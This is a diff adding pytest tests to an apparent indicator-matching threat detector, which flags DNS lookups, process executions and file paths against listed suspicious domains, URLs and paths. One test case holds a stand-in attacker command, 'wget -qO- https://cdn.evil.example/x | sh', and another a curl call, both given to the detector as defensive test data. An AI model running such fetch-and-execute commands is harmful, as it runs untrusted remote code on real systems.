@@ -430,6 +430,8 @@ def test_every_listed_thing_gives_a_finding_that_can_be_sealed() -> None:
         (an_endpoint(), ObservationKind.SOCKET_OPEN),
         (an_endpoint("2001:db8::1"), ObservationKind.SOCKET_OPEN),
         (Login(remote_address="192.0.2.1"), ObservationKind.LOGIN),
+        (DnsMessage(name="x.evil.example", qtype="A"), ObservationKind.DNS_QUERY),
+        (a_process(argv=("x", "http://pay.example/gate/y")), ObservationKind.PROCESS_EXEC),
     ]
 
     found = [finding for thing, kind in things for finding in judge(seen(thing, kind), a_context())]
@@ -438,3 +440,95 @@ def test_every_listed_thing_gives_a_finding_that_can_be_sealed() -> None:
     assert met == {kind.value for kind, _, _ in some_rows()} - {"ipv4", "cidr"} | {"ipv4"}
     for finding in found:
         assert codec.decode_record(codec.encode_record(finding)) == (finding, False)
+
+
+NAMED_ROWS: list[Row] = [
+    (IndicatorKind.DOMAIN, "evil.example", a_provenance(confidence=95, attack="")),
+    (IndicatorKind.URL_PREFIX, "http://pay.example/gate", a_provenance(confidence=95, attack="")),
+    (IndicatorKind.FILE_PATH, "/usr/lib/.libc/x", a_provenance(confidence=95)),
+]
+
+
+@pytest.mark.parametrize("kind", [ObservationKind.DNS_QUERY, ObservationKind.DNS_ANSWER])
+def test_a_name_below_a_listed_domain_is_found_when_it_is_asked_for(kind: ObservationKind) -> None:
+    message = DnsMessage(name="a.b.Evil.example", qtype="A", answers=())
+
+    finding = only(judge(seen(message, kind), a_context(NAMED_ROWS)))
+
+    assert finding.rule.id == "indicator.domain"
+    assert finding.severity is Severity.HIGH
+    assert finding.indicator is not None
+    assert (finding.indicator.kind, finding.indicator.value) == ("domain", "evil.example")
+    assert finding.arguments[0].value == "a.b.Evil.example"
+
+
+def test_a_query_and_its_answer_are_one_finding() -> None:
+    message = DnsMessage(name="a.evil.example", qtype="A")
+    keys = {
+        only(judge(seen(message, kind), a_context(NAMED_ROWS))).key
+        for kind in (ObservationKind.DNS_QUERY, ObservationKind.DNS_ANSWER)
+    }
+
+    assert len(keys) == 1
+
+
+def test_a_name_that_stands_for_a_listed_one_is_found() -> None:
+    message = DnsMessage(
+        name="cdn.example.net", qtype="A", code="NOERROR", answers=("x.evil.example", "192.0.2.200")
+    )
+
+    finding = only(judge(seen(message, ObservationKind.DNS_ANSWER), a_context(NAMED_ROWS)))
+
+    assert finding.rule.id == "indicator.domain"
+    assert finding.arguments[0].value == "cdn.example.net is x.evil.example"
+
+
+def test_words_of_other_records_are_no_names() -> None:
+    message = DnsMessage(name="a.example.net", qtype="MX", answers=("MX 10 mail.evil.example",))
+
+    assert judge(seen(message, ObservationKind.DNS_ANSWER), a_context(NAMED_ROWS)) == ()
+
+
+@pytest.mark.parametrize(
+    ("argument", "value"),
+    [
+        ("http://pay.example/gate/x.sh", "http://pay.example/gate"),
+        ("wget -qO- https://cdn.evil.example/x | sh", "evil.example"),
+    ],
+)
+def test_a_program_given_a_listed_url_is_found(argument: str, value: str) -> None:
+    process = structs.replace(a_process(), argv=("sh", "-c", argument), sha256=None)
+
+    finding = only(judge(seen(process, ObservationKind.PROCESS_EXEC), a_context(NAMED_ROWS)))
+
+    assert finding.rule.id == "indicator.url"
+    assert finding.indicator is not None
+    assert finding.indicator.value == value
+    assert [attack.technique for attack in finding.attack] == ["T1105"]
+
+
+def test_a_program_that_could_not_be_executed_was_given_nothing() -> None:
+    process = structs.replace(a_process(), argv=("curl", "http://pay.example/gate"), sha256=None)
+    observed = seen(process, ObservationKind.PROCESS_EXEC_FAILED)
+
+    assert judge(observed, a_context(NAMED_ROWS)) == ()
+
+
+@pytest.mark.parametrize(
+    "thing",
+    [a_file("/usr/lib/.libc/x", None), structs.replace(a_process(), exe="/usr/lib/.libc/x")],
+)
+def test_a_file_at_a_listed_path_is_found(thing: Thing) -> None:
+    kind = ObservationKind.FILE_SEEN if isinstance(thing, File) else ObservationKind.PROCESS_EXEC
+
+    finding = only(judge(seen(thing, kind), a_context(NAMED_ROWS)))
+
+    assert (finding.rule.id, finding.severity) == ("indicator.file_path", Severity.MEDIUM)
+
+
+def test_a_listed_domain_that_has_expired_is_nothing() -> None:
+    rows = [(IndicatorKind.DOMAIN, "evil.example", a_provenance(expires=BUILT_AT))]
+    message = DnsMessage(name="evil.example", qtype="A")
+    late = BUILT_AT + 3600 * 10**9
+
+    assert judge(seen(message, ObservationKind.DNS_QUERY), a_context(rows, now=late)) == ()
